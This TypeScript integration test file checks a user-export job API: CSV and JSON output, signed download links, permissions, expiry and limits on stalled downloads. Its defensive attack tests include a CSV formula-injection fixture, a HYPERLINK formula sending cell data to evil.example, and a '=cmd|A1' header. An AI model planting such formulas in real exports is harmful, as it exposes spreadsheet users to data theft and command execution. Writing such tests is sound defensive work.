/** Exports of users over HTTP, with a real database: what is in the file, who gets it, and what ends a download. */
import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { gunzipSync } from 'node:zlib';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Fault } from '../../src/kernel/errors.js';
import { userExportFiles } from '../../src/management/users/user-export-file.js';
import { createExportLines } from '../../src/management/users/user-export-rows.js';
import type { UserDirectory } from '../../src/ports/directory/users.js';
import { cleanUp } from '../../src/storage/housekeeping.js';
import { type Management, ORIGIN, startManagement } from './harness.js';

/** Four pages of the file, the last one full. */
const PEOPLE = 2_000;

let api: Management;
let many: string;
let few: string;

beforeAll(async () => {
  api = await startManagement();
  many = (await api.post('/connections', { name: 'Many', strategy: 'auth0' })).body.id;
  few = (await api.post('/connections', { name: 'few', strategy: 'auth0' })).body.id;
  // One moment for hundreds of them, as an import writes: a page must end and begin between two of the same age.
  const insertUsers = `insert into users (user_id, email, name, user_metadata, created_at, updated_at)
    select 'auth0|m' || n, 'm' || n || '@many.example', 'Person ' || n, jsonb_build_object('n', n),
           timestamptz '2026-01-01' + (n / 700) * interval '1 day', now() from generate_series(1, ${PEOPLE}) n`;
  const insertIdentities = `insert into identities (user_id, id, connection_id, status, subject, is_primary, created_at, bound_at)
    select user_id, 'ide_' || user_id, $1, 'bound', substr(user_id, 7), true, now(), now() from users`;
  await api.database.pool.query(insertUsers);
  await api.database.pool.query(insertIdentities, [many]);
  await api.post('/users', {
    email: 'dana@few.example',
    email_verified: true,
    connection: 'few',
    password: 'Correct-horse-9',
    name: '=HYPERLINK("https://evil.example/?"&A1)',
    user_metadata: { country: 'PT', tags: ['a', 'b'], age: 41, 'a,b': 1 },
    app_metadata: { plan: 'pro' },
  });
});
afterAll(() => api.close());

const start = async (body: object) => {
  const started = await api.post('/jobs/users-exports', body);
  expect(started.status, JSON.stringify(started.body)).toBe(200);
  return started.body;
};
const linkOf = async (id: string) => (await api.get(`/jobs/${id}`)).body.location as string;
const fetchFile = (link: string) => api.app.inject(link.replace(ORIGIN, ''));
/** The text of the file of a new job. */
async function exported(body: object): Promise<string> {
  const answer = await fetchFile(await linkOf((await start(body)).id));
  expect(answer.statusCode, answer.body).toBe(200);
  return gunzipSync(answer.rawPayload).toString('utf8');
}
const linesOf = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));

describe('a job', () => {
  test('case=pending-then-completed-with-a-link', async () => {
    const fields = [{ name: 'email' }, { name: 'identities[0].connection', export_as: 'provider' }];
    const started = await start({ connection_id: few, format: 'csv', limit: 5, fields });
    const facts = {
      id: expect.stringMatching(/^job_[A-Za-z0-9]{16}$/),
      type: 'users_export',
      created_at: expect.any(String),
      connection_id: few,
      connection: 'few',
      format: 'csv',
      limit: 5,
      fields,
    };
    expect(started).toEqual({ ...facts, status: 'pending' });
    expect((await api.get(`/jobs/${started.id}`)).body).toEqual({
      ...facts,
      status: 'completed',
      location: expect.stringMatching(
        new RegExp(`^https://login.example/api/v2/jobs/${started.id}/users.csv.gz\\?ticket=[A-Za-z0-9_-]+$`),
      ),
    });
    expect((await api.get(`/jobs/${started.id}/errors`)).status).toBe(204);
    const answer = await fetchFile(await linkOf(started.id));
    expect(answer.headers).toMatchObject({
      'content-type': 'application/gzip',
      'content-disposition': 'attachment; filename="users.csv.gz"',
      'cache-control': 'no-store',
    });
  });

  test('case=refused', async () => {
    const refusal = async (body: object) => (await api.post('/jobs/users-exports', body)).body.message;
    expect(await refusal({ connection_id: 'con_0000000000000000' })).toBe('The connection does not exist.');
    expect(await refusal({ format: 'xml' })).toContain('format');
    expect(await refusal({ limit: 0 })).toContain('limit');
    expect(await refusal({ fields: [{ export_as: 'x' }] })).toContain('name');
    const fields = Array.from({ length: 31 }, (_, index) => ({ name: `user_metadata.f${index}` }));
    expect(await refusal({ format: 'csv', fields })).toBe('An export as csv has at most 30 fields.');
    expect((await api.post('/jobs/users-exports', { format: 'json', fields })).status).toBe(200);
    expect((await api.post('/jobs/users-exports', {}, 'create.users')).status).toBe(403);
  });

  test('case=a-day-later-it-is-gone', async () => {
    const { id } = await start({});
    api.advance(86_401);
    expect((await api.get(`/jobs/${id}`)).body.message).toBe('The job does not exist.');
    await cleanUp(api.database.pool, api.deps.clock.now(), { logDays: 90 });
    expect((await api.database.pool.query('select 1 from user_export_jobs')).rows).toEqual([]);
    api.advance(-86_401);
  });

  test('case=the-log-has-the-question-and-no-link', async () => {
    const { id } = await start({ connection_id: few });
    await linkOf(id);
    const [line] = (await api.get('/logs?q=type:sapi&per_page=1&sort=date:-1')).body;
    expect(line).toMatchObject({ description: 'Create export users job', connection_id: few });
    expect(JSON.stringify(line)).not.toContain('ticket=');
  });
});

describe('the file', () => {
  test('case=everybody-of-a-connection-once-as-the-list-has-them', async () => {
    const names = ['user_id', 'email', 'name', 'identities', 'user_metadata', 'created_at'];
    const lines = linesOf(await exported({ connection_id: many, fields: names.map((name) => ({ name })) }));
    const listed: unknown[] = [];
    for (let page = 0; page < PEOPLE / 100; page += 1) {
      const query = `connection=Many&sort=created_at:1&per_page=100&page=${page}&include_fields=true&fields=${names.join(',')}`;
      listed.push(...(await api.get(`/users?${query}`)).body);
    }
    expect(listed).toHaveLength(PEOPLE);
    expect(lines).toEqual(listed);
  });

  test('case=a-limit-within-a-page-and-beyond-one', async () => {
    for (const limit of [1, 500, 750])
      expect(linesOf(await exported({ connection_id: many, limit }))).toHaveLength(limit);
    expect(linesOf(await exported({ limit: 9_007_199_254_740_991 }))).toHaveLength(PEOPLE + 1);
  });

  test('case=usual-fields-where-none-are-named', async () => {
    const [line] = linesOf(await exported({ connection_id: few }));
    expect(Object.keys(line)).toEqual([
      ...['user_id', 'email', 'email_verified', 'name', 'nickname', 'picture', 'created_at', 'updated_at'],
    ]);
  });

  test('case=json-with-whole-and-single-properties', async () => {
    const fields = [
      { name: 'user_metadata' },
      { name: 'app_metadata.plan', export_as: 'plan' },
      { name: 'user_metadata.tags[1]' },
      { name: 'identities[0].connection', export_as: '__proto__' },
      { name: '__proto__', export_as: 'prototype' },
      { name: 'nobody.has[9].this' },
    ];
    const metadata = '{"a,b":1,"age":41,"tags":["a","b"],"country":"PT"}';
    expect(await exported({ connection_id: few, fields })).toBe(
      `{"user_metadata":${metadata},"plan":"pro","user_metadata.tags[1]":"b","__proto__":"few"}\n`,
    );
  });

  test('case=csv-as-auth0-writes-it', async () => {
    const fields = [
      { name: 'email' },
      { name: 'email_verified', export_as: 'verified, really' },
      { name: 'user_metadata.age', export_as: 'age' },
      { name: 'user_metadata.tags', export_as: 'tags' },
      { name: 'nobody.has.this' },
    ];
    expect(await exported({ connection_id: few, format: 'csv', fields })).toBe(
      'email,"verified, really",age,tags,nobody.has.this\r\n' + '"\'dana@few.example",true,41,"\'[""a"",""b""]",\r\n',
    );
  });

  test('attack=a-formula-as-a-name', async () => {
    const fields = [{ name: 'name' }, { name: 'created_at', export_as: '=cmd|A1' }];
    const [head, line] = (await exported({ connection_id: few, format: 'csv', fields })).split('\r\n');
    expect(head).toBe("name,'=cmd|A1");
    expect(line).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1\)",\d{4}-\d\d-\d\dT[\d:.]+Z$/);
    const lines = createExportLines('csv', [{ name: 'x' }]);
    for (const text of ['=1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '2026-01-01T00:00:00.000Z'])
      expect(lines.toLine({ x: text })).toBe(`"'${text}"\r\n`);
  });

  test('attack=a-password-hash-by-its-name', async () => {
    const names = ['password', 'password_hash', 'hash', 'credentials', 'identities', 'passwordHash'];
    const text = await exported({ connection_id: few, fields: names.map((name) => ({ name })) });
    expect(linesOf(text)).toEqual([{ identities: [expect.objectContaining({ connection: 'few' })] }]);
    expect(text).not.toContain('hash-of-');
  });
});

describe('the link', () => {
  const refused = async (link: string) => (await fetchFile(link)).statusCode;

  test('attack=no-ticket-a-forged-one-and-one-of-another-job', async () => {
    const one = await start({ connection_id: few });
    const other = await start({});
    const link = await linkOf(one.id);
    expect(await refused(link)).toBe(200);
    expect(await refused(link.replace(/\?.*/, ''))).toBe(403);
    expect(await refused(`${link}&ticket=x`)).toBe(403);
    expect(await refused(link.replace(/ticket=../, 'ticket=__'))).toBe(403);
    expect(await refused(link.replace(one.id, other.id))).toBe(403);
    expect(await refused(link.replace(one.id, 'job_0000000000000000'))).toBe(403);
    expect(await refused(link.replace('.json.', '.csv.'))).toBe(404);
    expect((await fetchFile(link.replace(/\?.*/, ''))).json()).toMatchObject({ statusCode: 403, error: 'Forbidden' });
  });

  test('attack=a-link-found-in-a-history', async () => {
    const { id } = await start({ connection_id: few });
    const link = await linkOf(id);
    api.advance(61);
    expect(await refused(link)).toBe(403);
    expect(await refused(await linkOf(id))).toBe(200);
    api.advance(-61);
  });

  test('attack=a-caller-who-may-only-create-users', async () => {
    const { id } = await start({});
    expect((await api.get(`/jobs/${id}`, 'create.users')).body).not.toHaveProperty('location');
    expect((await api.get(`/jobs/${id}`, 'read.users')).body).toHaveProperty('location');
  });

  test('attack=everybody-when-the-connection-is-gone', async () => {
    const gone = (await api.post('/connections', { name: 'gone', strategy: 'auth0' })).body.id;
    const { id } = await start({ connection_id: gone });
    await api.delete(`/connections/${gone}`);
    const job = (await api.get(`/jobs/${id}`)).body;
    expect(job).toMatchObject({ connection_id: gone, connection: '' });
    expect(await refused(job.location)).toBe(404);
  });
});

describe('a download that ends early', () => {
  /** A server at a port, whose search is `search` in place of the directory's. */
  async function listen(
    search: UserDirectory['search'],
  ): Promise<{ app: FastifyInstance; toUrl(link: string): string }> {
    const app = Fastify();
    const users = { ...api.deps.directory.users, search };
    const { connections, exports } = api.deps.directory;
    await app.register(userExportFiles({ ...api.deps, directory: { connections, exports, users } as never }), {
      prefix: '/api/v2',
    });
    const address = await app.listen({ port: 0, host: '127.0.0.1' });
    return { app, toUrl: (link) => link.replace(ORIGIN, address) };
  }

  /** Pages without an end, each of text that does not get smaller. */
  const endless = async () => {
    const [user] = (await api.deps.directory.users.search({}, { limit: 1 })).items;
    if (user === undefined) throw new Error('nobody is there');
    const asked = { pages: 0 };
    const search: UserDirectory['search'] = async () => {
      asked.pages += 1;
      const items = Array.from({ length: 500 }, () => ({
        ...user,
        userMetadata: { noise: api.deps.entropy.bytes(600).toString('base64') },
      }));
      return { items, next: { createdAt: '', id: '' } };
    };
    return { asked, search };
  };
  const noisy = async () => linkOf((await start({ fields: [{ name: 'user_metadata' }] })).id);

  /** A client that reads nothing after the head of the answer. */
  async function open(url: string): Promise<IncomingMessage> {
    const request = get(url, { agent: false });
    const [response] = (await once(request, 'response')) as [IncomingMessage];
    return response.on('error', () => {});
  }

  test('case=no-more-pages-than-the-client-takes-and-none-when-it-has-gone', async () => {
    const { asked, search } = await endless();
    const { app, toUrl } = await listen(search);
    const response = await open(toUrl(await noisy()));
    const settled = async () => {
      for (let before = -1; before !== asked.pages; await pause(300)) before = asked.pages;
      return asked.pages;
    };
    // Buffers of the two ends are full after some pages: the rest waits for the client.
    const taken = await settled();
    expect(taken).toBeLessThan(200);
    response.destroy();
    expect(await settled()).toBeLessThanOrEqual(taken + 1);
    await app.close();
  });

  test('attack=downloads-that-are-never-read-take-every-connection', async () => {
    const { search } = await endless();
    const { app, toUrl } = await listen(search);
    const url = toUrl(await noisy());
    const readers = await Promise.all(Array.from({ length: 4 }, () => open(url)));
    const fifth = await open(url);
    expect([fifth.statusCode, fifth.headers['retry-after']]).toEqual([429, '10']);
    for (const reader of readers) reader.destroy();
    await expect
      .poll(async () => {
        const again = await open(url);
        again.destroy();
        return again.statusCode;
      })
      .toBe(200);
    await app.close();
  });

  test('case=a-database-that-goes-away-leaves-no-file-that-looks-whole', async () => {
    const { search } = await endless();
    let pages = 0;
    const { app, toUrl } = await listen(async (filter, page) => {
      pages += 1;
      if (pages > 3) throw new Fault('database', 'the database is gone', true);
      return search(filter, page);
    });
    const response = await fetch(toUrl(await noisy()));
    await expect(response.arrayBuffer()).rejects.toThrow();
    await app.close();
  });
});
